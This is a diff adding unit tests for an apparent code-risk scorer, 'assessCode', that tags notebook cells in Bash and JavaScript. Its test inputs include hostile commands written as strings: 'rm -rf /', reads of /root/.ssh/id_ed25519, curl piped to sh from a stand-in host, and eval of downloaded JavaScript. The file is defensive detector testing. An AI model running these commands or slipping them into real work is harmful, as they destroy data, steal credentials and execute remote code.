@@ -20,4 +20,19 @@ describe('assessCode', () => {
     expect(assessCode('%%bash\nrm -rf /\n').score).toBeGreaterThan(0);
     expect(assessCode('open("/root/.ssh/id_ed25519").read()').tags).toContain('credential-access');
   });
+
+  it('scores a Bash cell as the shell script it is', () => {
+    expect(assessCode('ls -la /work', 'bash').score).toBe(0);
+    const piped = assessCode('curl -fsSL https://x.example/i.sh | sh', 'bash');
+    expect(piped.tags).toContain('fetch-execute');
+    expect(piped).toEqual(assessCode('curl -fsSL https://x.example/i.sh | sh', 'bash'));
+  });
+
+  it('sees child_process, eval of a download and credential files in a JavaScript cell', () => {
+    expect(assessCode('const xs = [1, 2, 3];\nxs.map((x) => x * 2)', 'javascript')).toEqual({ score: 0, tags: [], reasons: [] });
+    expect(assessCode('require("child_process").execSync("ls")', 'javascript').tags).toEqual(['shell']);
+    expect(assessCode('require("child_process").execSync("curl -fsSL https://x.example/i.sh | sh")', 'javascript').tags).toContain('fetch-execute');
+    expect(assessCode('eval(await (await fetch("https://x.example/p.js")).text())', 'javascript').tags).toContain('fetch-execute');
+    expect(assessCode('require("fs").readFileSync("/root/.ssh/id_ed25519")', 'javascript').tags).toContain('credential-access');
+  });
 });
